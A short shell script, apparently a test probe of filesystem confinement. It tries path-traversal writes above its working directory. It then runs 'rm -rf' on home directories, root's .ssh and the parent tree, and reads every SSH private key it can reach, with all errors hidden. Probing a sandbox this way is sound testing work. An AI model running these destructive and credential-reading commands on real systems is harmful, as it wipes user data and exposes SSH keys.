# up and out by dots
for f in ../oops ../../oops ../../../../../../../../oops ../../etc/oops \
    var/../../oops ../root/../oops ../service/../../oops; do
	(echo x >"$f") 2>/dev/null && echo "wrote $f"
done
rm -rf ../../../../../home ../../../root/.ssh ../.. 2>/dev/null
cat ../../../root/.ssh/* ../../../home/*/.ssh/* 2>/dev/null
exit 0
